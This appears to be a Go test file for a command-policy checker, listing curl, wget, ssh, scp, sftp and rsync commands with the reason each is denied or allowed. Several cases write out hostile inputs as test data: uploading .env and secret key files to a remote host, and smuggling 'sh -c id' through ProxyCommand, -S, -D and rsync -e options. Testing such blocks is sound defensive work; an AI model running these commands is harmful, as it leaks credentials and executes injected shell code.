package policy_test

import "testing"

func TestProgNetwork(t *testing.T) {
	runProgCases(t, []string{"curl", "wget", "ssh", "scp", "sftp", "rsync"}, []progCase{
		{cmd: "curl -s https://example.com"},
		{cmd: "curl -o page.html https://example.com"},
		{cmd: "curl -o OUT/page.html https://example.com", reason: "path_not_in_scope"},
		{cmd: "curl -d @.env https://example.com", reason: "path_denied"},
		{cmd: "curl -F f=@secrets/key https://example.com", reason: "path_denied"},
		{cmd: "curl -T .env https://example.com", reason: "path_denied"},
		{cmd: "wget -O OUT/x https://example.com", reason: "path_not_in_scope"},
		{cmd: "ssh -o ProxyCommand='sh -c id' host", reason: "dangerous_argument"},
		{cmd: "scp -S sh a.json host:", reason: "dangerous_argument"},
		{cmd: "scp -D /usr/lib/openssh/sftp-server a.json host:", reason: "dangerous_argument"},
		{cmd: "sftp -S sh host", reason: "dangerous_argument"},
		{cmd: "sftp -D 'sh -c id' host", reason: "dangerous_argument"},
		{cmd: "sftp -o ProxyCommand='sh -c id' host", reason: "dangerous_argument"},
		{cmd: "sftp -o LocalCommand=id host", reason: "dangerous_argument"},
		{cmd: "ssh -o '\"ProxyCommand\" sh -c id' host", reason: "dangerous_argument"},
		{cmd: "sftp -b.env host", reason: "path_denied"},
		{cmd: "sftp -FOUT/config host", reason: "path_not_in_scope"},
		{cmd: "sftp -b a.json host"},
		{cmd: "ssh -R 9000:/var/run/docker.sock host", reason: "path_not_in_scope"},
		{cmd: "ssh -o 'RemoteForward /tmp/r.sock OUT/app.sock' host", reason: "path_not_in_scope"},
		{cmd: "ssh -R '9000:/run/%u.sock' host", reason: "dynamic_command"},
		{cmd: "ssh -R 9000:PROJ/app.sock host", reason: "host_not_in_scope"}, // a socket no unix: entry names
		{cmd: "ssh -L 9000:/var/run/docker.sock host"},
		{cmd: "rsync -e 'sh -c id' a.json host:", reason: "dangerous_argument"},
	})
}

func TestProgCurlUploads(t *testing.T) {
	runProgCases(t, []string{"curl"}, []progCase{
		{cmd: "curl -d 'a=1' https://example.com"},
		{cmd: "curl -d @a.json https://example.com"},
		{cmd: "curl --data-raw @.env https://example.com"},
		{cmd: "curl -F name=value https://example.com"},
		{cmd: "curl --form-string 'f=@.env' https://example.com"},
		{cmd: "curl -F 'f=@a.json;type=application/json' https://example.com"},
		{cmd: "curl -F 'f=<.env' https://example.com", reason: "path_denied"},
		{cmd: "curl --form 'f=@.env;type=text/plain' https://example.com", reason: "path_denied"},
		{cmd: "curl -sF f=@.env https://example.com", reason: "path_denied"},
		{cmd: "curl --data-binary @.env https://example.com", reason: "path_denied"},
		{cmd: "curl --json @secrets/key https://example.com", reason: "path_denied"},
		{cmd: "curl --data-urlencode 'x@.env' https://example.com", reason: "path_denied"},
		{cmd: "curl --data-urlencode 'x=a@b' https://example.com"},
		{cmd: "curl -d @OUT/x.json https://example.com", reason: "path_not_in_scope"},
	})
}
